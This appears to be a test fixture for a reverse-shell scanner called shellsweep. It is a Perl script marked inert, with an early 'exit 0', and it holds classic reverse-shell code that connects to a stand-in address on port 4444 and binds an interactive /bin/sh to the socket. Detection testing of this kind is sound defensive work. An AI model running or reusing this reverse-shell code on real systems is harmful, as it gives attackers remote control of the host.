#!/usr/bin/perl
# shellsweep test sample: inert, never functional
exit 0;
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));
connect(S, sockaddr_in(4444, inet_aton('192.0.2.10')));
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec('/bin/sh -i');
